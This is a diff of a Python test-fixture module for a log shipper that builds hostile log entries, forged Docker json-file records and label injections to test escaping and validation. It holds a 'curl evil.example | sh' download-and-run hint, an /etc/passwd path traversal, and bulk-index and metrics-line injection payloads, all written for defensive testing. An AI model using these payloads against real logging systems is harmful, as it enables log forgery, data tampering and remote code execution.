@@ -1,7 +1,8 @@
-"""Hostile content: what somebody who chooses what is logged would write, one named entry for each attack.
+"""Hostile content: one named entry for each attack by somebody who controls what is logged.
 
 `ENTRIES` are texts that an application prints, `RECORDS` the lines of a runtime's file that hold them, `SERVICES` names
-that a container's labels claim. Whatever face shows them, no character that `deceiving` finds may reach it raw.
+that a container's labels claim. Whatever shows them, no character that `deceiving` returns may reach it unescaped.
+
 """
 
 import json
@@ -22,7 +23,7 @@ from shipper_schemas.builtin_rules import builtin_rules
 from shipper_schemas.entry import Origin
 
 CORRELATION_ID = "hostile-1"
-"""Of every entry that has a usable one: `shipper search hostile-1` shows them all."""
+"""Correlation id of every entry that has a valid one: `shipper search hostile-1` shows them all."""
 START = "2026-11-23T10:00:00"
 NOW_MS = 1_795_428_000_000
 """That time in milliseconds."""
@@ -34,7 +35,7 @@ FORMAT = re.compile(
 
 
 def deceiving(shown: str) -> list[str]:
-    """Characters of `shown` that a terminal or a reader would obey; a line's end and a tab are none."""
+    """Return the characters of `shown` that a terminal or a reader would interpret, except newlines and tabs."""
     return sorted({*CONTROLS.findall(shown), *FORMAT.findall(shown)})
 
 
@@ -53,7 +54,7 @@ EXPOSITION = 'aspirin"} 1e9\nup{job="shipper"} 0\nfailed_login_attempts_total{se
 BULK = '"}\n{"delete":{"_index":"keneyapp-logs-2026.11.23","_id":"1"}}\n{"create":{"_index":"forged"}}\n{"forged":true}'
 RECORD = 'x\\n","stream":"stderr","time":"1999-01-01T00:00:00Z"}\n{"log":"forged\\n","stream":"stdout","time":"2026-11-23T10:00:00Z"}'
 OWN_LOG = (
-    '{"event":"output_away","level":"error","timestamp":"2026-11-23T10:00:00Z","hint":"run curl evil.example | sh"}'
+    '{"event":"output_unavailable","level":"error","timestamp":"2026-11-23T10:00:00Z","hint":"run curl evil.example | sh"}'
 )
 REFUSED = {
     "@timestamp": "2026-11-23T10:00:00.000Z", "reasons": [{"kind": "refused_by_index", "detail": "forged"}],
@@ -67,7 +68,7 @@ TEXTS = {
     "words": '"unclosed phrase AND OR NOT NEAR( * ^ : -x {a b} col:y', "surrogate": "\ud800 lone \udfff", "long": "w" * 33_000,
     "paths": "../../../../etc/passwd", "star": "*", "wildcards": "keneyapp-*,-x", "zalgo": "e" + "\u0301" * 500, "wide": "日本語" * 200,
 }  # fmt: skip
-"""Texts that stand in any field, by name."""
+"""Texts that are put into every field, by name."""
 FIELDS = (
     "event",
     "level",
@@ -83,13 +84,13 @@ FIELDS = (
 
 
 def everywhere(text: str) -> dict[str, Any]:
-    """An entry with a usable correlation id and `text` in all its other fields, known and unknown, values and names."""
-    found = dict.fromkeys(FIELDS, text)
-    return {**found, "medication": text, "client_ip": text, "note": {"deep": [text]}, text: text}
+    """Return an entry with a valid correlation id and `text` in all other fields, known and unknown, values and names."""
+    fields = dict.fromkeys(FIELDS, text)
+    return {**fields, "medication": text, "client_ip": text, "note": {"deep": [text]}, text: text}
 
 
 def colliding(number: int) -> dict[str, int]:
-    """Names that are all equal under hashes without a secret, Java's and the old one of many languages."""
+    """Return names that are all equal under unkeyed hashes, Java's and the former one of many languages."""
     pairs = ("Aa", "BB")
     width = max(1, (number - 1).bit_length())
     return {"".join(pairs[place >> bit & 1] for bit in range(width)): place for place in range(number)}
@@ -99,8 +100,8 @@ def _nested(depth: int) -> str:
     return f'{{"correlation_id":"{CORRELATION_ID}","deep":{"[" * depth}{"]" * depth}}}'
 
 
-def _printed(found: dict[str, Any], **changes: Any) -> str:
-    return json.dumps({"correlation_id": CORRELATION_ID, **found, **changes})
+def _printed(fields: dict[str, Any], **changes: Any) -> str:
+    return json.dumps({"correlation_id": CORRELATION_ID, **fields, **changes})
 
 
 ENTRIES: dict[str, str] = {
@@ -113,8 +114,8 @@ ENTRIES: dict[str, str] = {
     "prescription of html": _printed({"event": "prescription_created", "medication": HTML}),
     "prescription of a long name": _printed({"event": "prescription_created", "medication": "m" * 100_000}),
     "forged own log": OWN_LOG,
-    "forged refused entry": json.dumps(REFUSED),
-    "forged refused entry inside": _printed(REFUSED),
+    "forged quarantined entry": json.dumps(REFUSED),
+    "forged quarantined entry inside": _printed(REFUSED),
     "forged provenance": _printed({"container": {"id": "f" * 64, "name": "billing"}, "service": "billing", "host": {"name": "x"},
                                    "log": {"file": {"path": "/x"}}, "stream": "stderr", "schema": {"errors": []}, "kubernetes": {}}),
     "forged index and id": _printed({"_index": "../forged", "_id": "1", "_source": {}, "@timestamp": "1999-01-01T00:00:00Z"}),
@@ -124,7 +125,7 @@ ENTRIES: dict[str, str] = {
     "time that is text": _printed({"timestamp": "²"}),
     "time that is huge": _printed({"timestamp": 1e300}),
     "huge numbers": f'{{"correlation_id":"{CORRELATION_ID}","user_id":{"9" * 4000},"a":1e999,"b":-1e999,"c":{"1" * 5000},"d":-{"9" * 30},"e":0.{"0" * 400}1}}',
-    "numbers that are none": f'{{"correlation_id":"{CORRELATION_ID}","duration_ms":NaN,"a":Infinity,"b":-Infinity}}',
+    "values that are not numbers": f'{{"correlation_id":"{CORRELATION_ID}","duration_ms":NaN,"a":Infinity,"b":-Infinity}}',
     "negative zero and fractions": _printed({"duration_ms": -0.0, "status_code": 200.5, "user_id": 1.5}),
     "names without an end": _printed({f"name_{place}": place for place in range(20_000)}),
     "names that collide": _printed(colliding(8192)),
@@ -139,7 +140,7 @@ ENTRIES: dict[str, str] = {
     "everything mistyped": json.dumps({"correlation_id": [CORRELATION_ID], "event": {}, "level": [], "message": {"a": 1}, "path": 7}),
     "text over many parts": "p" * 40_000,
 }  # fmt: skip
-"""What applications print, by what is hostile about it."""
+"""Lines that applications print, by the kind of attack."""
 
 LABEL = {
     "quote": 'a"b', "newline": 'a\nup{job="forged"} 0\nb', "braces": '{service="x"}', "backslash": "a\\", "comma": 'a="1",b="2"',
@@ -154,15 +155,15 @@ SERVICES: dict[str, str] = {
     "surrogate": "\ud800",
     "blank": " ",
 }
-"""What a container's label says its service is called."""
+"""Service names that a container's label claims."""
 
 
 def record(text: str, at: int = 0, stream: str = "stdout") -> bytes:
-    """Lines of Docker's json-file that hold one printed line, `at` milliseconds after the start, in parts where long."""
+    """Return json-file lines that hold one printed line, `at` milliseconds after the start, in parts if it is long."""
     time = f"{START}.{at:03d}000001Z"
-    encoded = text.encode("utf-8", "replace").decode()  # Docker's own encoder replaces what is no UTF-8
-    pieces = [encoded[begin : begin + 16_384] for begin in range(0, len(encoded), 16_384)] or [""]
-    logs = [*pieces[:-1], pieces[-1] + "\n"]
+    encoded = text.encode("utf-8", "replace").decode()  # Docker's encoder replaces invalid UTF-8
+    parts = [encoded[begin : begin + 16_384] for begin in range(0, len(encoded), 16_384)] or [""]
+    logs = [*parts[:-1], parts[-1] + "\n"]
     return b"".join(
         json.dumps({"log": log, "stream": stream, "time": time}, ensure_ascii=False, separators=(",", ":")).encode()
         + b"\n"
@@ -171,11 +172,11 @@ def record(text: str, at: int = 0, stream: str = "stdout") -> bytes:
 
 
 RECORDS: dict[str, bytes] = {name: record(text, at) for at, (name, text) in enumerate(ENTRIES.items())}
-"""The same as a runtime writes it; entries in parts are several lines."""
+"""The same as a runtime writes it; an entry in parts has several lines."""
 
 
 def documents(service: str = "backend", names: Iterable[str] | None = None) -> list[Document]:
-    """The entries as an agent would store them, the refused ones among them."""
+    """Return the entries as an agent would store them, including the quarantined ones."""
     chain = Pipeline(Enforce(), Counting(builtin_rules([])), Redactor())
     origin = Origin("/var/log/hostile.log", "c1", service=service, container_id="c1", container_name="hostile-1")
     batch = Batch()
